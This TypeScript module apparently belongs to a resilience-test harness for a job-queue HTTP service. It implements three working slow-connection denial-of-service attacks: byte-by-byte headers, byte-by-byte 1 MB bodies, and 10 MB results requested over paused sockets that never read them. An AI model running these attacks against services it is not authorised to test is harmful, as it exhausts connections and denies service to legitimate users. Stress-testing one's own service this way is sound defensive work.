import type { Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { authorized, bodyOf, head, openSocket, post } from "./raw.ts";
import type { Attack, Target } from "./target.ts";

const CONNECTIONS = 500;
const READERS = 100;
const BYTE_EVERY_MS = 250;
const OUTPUT_BYTES = 10 * 1024 * 1024;

/** Clients that send as little as keeps a connection, and those that do not read what they asked for. */
export const slowness: readonly Attack[] = [
  {
    name: "slow-heads",
    does: `${CONNECTIONS} connections send a header byte by byte`,
    play: (target) => dribble(target, "GET /v1/endpoints HTTP/1.1\r\nhost: attacked\r\nx-slow: "),
  },
  {
    name: "slow-bodies",
    does: `${CONNECTIONS} connections send a body of 1 MB byte by byte`,
    play: (target) => {
      const headers = authorized(target, { "content-type": "application/json", "content-length": "1048576" });
      return dribble(target, `${head("POST", `/v2/${target.attacker.endpointId}/run`, headers)}{"input":"`);
    },
  },
  {
    name: "slow-readers",
    does: `${READERS} connections ask for a result of 10 MB and do not read it`,
    async play(target) {
      const id = await storeResult(target);
      await target.begin();
      const path = `/v2/${target.attacker.endpointId}/status/${id}`;
      const sockets = Array.from({ length: READERS }, () => openSocket(target).pause());
      for (const socket of sockets) socket.write(head("GET", path, authorized(target)));
      await untilStopped(target);
      end(target, sockets, "left unread");
    },
  },
];

async function dribble(target: Target, beginning: string): Promise<void> {
  await target.begin();
  const sockets = Array.from({ length: CONNECTIONS }, () => openSocket(target));
  for (const socket of sockets) {
    socket.on("data", (bytes: Buffer) => target.answered(bytes.toString("latin1", 9, 12)));
    socket.write(beginning);
  }
  while (!target.stop.aborted) {
    for (const socket of sockets) if (!socket.destroyed && socket.writable) socket.write("a");
    await delay(BYTE_EVERY_MS);
  }
  end(target, sockets, "still open");
}

export function end(target: Target, sockets: readonly Socket[], how: string): void {
  for (const socket of sockets) {
    target.answered(socket.destroyed ? "closed by the service" : how);
    socket.destroy();
  }
}

export async function untilStopped({ stop }: Target): Promise<void> {
  while (!stop.aborted) await delay(50);
}

/** Makes a job with a large result; resolves to its id. */
async function storeResult(target: Target): Promise<string> {
  const queue = `/v2/${target.attacker.endpointId}`;
  const { text } = await post(target, `${queue}/run`, '{"input":{}}');
  const token = await takeOne(target);
  if (token === undefined) throw new Error(`there is no job to finish: ${text.slice(0, 200)}`);
  const output = JSON.stringify({ output: "x".repeat(OUTPUT_BYTES) });
  await post(target, `${queue}/job-done/attacker/${token.id}?attempt=${token.attemptToken}`, output);
  return token.id;
}

export interface Taken {
  readonly id: string;
  readonly attemptToken: string;
}

export async function takeOne(target: Target): Promise<Taken | undefined> {
  const { text } = await post(target, `/v2/${target.attacker.endpointId}/job-take/attacker`, "", {}, "GET");
  return bodyOf(text) as Taken | undefined;
}
